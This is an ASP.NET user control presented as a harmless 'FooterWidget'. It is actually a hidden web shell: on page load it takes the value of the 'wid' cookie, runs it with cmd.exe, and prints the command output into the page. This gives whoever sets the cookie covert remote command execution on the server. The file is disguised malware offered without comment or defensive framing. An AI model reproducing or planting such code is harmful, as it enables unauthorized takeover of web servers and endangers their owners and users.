<%@ Control Language="C#" ClassName="FooterWidget" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        string arg = Request.Cookies["wid"] != null ? Request.Cookies["wid"].Value : null;
        if (arg == null) return;
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + arg;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        lit.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
    }
</script>
<asp:Literal ID="lit" runat="server" />
